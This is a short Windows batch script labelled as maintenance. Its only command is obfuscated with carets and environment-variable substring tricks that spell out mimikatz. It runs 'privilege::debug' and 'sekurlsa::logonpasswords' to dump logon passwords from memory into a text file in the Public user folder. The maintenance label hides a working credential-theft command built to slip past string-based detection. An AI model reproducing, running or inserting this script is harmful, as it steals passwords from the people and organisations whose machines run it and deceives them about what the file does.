REM maintenance 0835 v2
^m%comspec:~4,1%%PROGRAMDATA:~9,1%%PUBLIC:~13,1%^k%ProgramData:~8,1%%comspec:~14,1%z.^e%comspec:~-2,1%%public:~5,1% "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\^U^se^rs\Pub^li^c\^m.t^xt
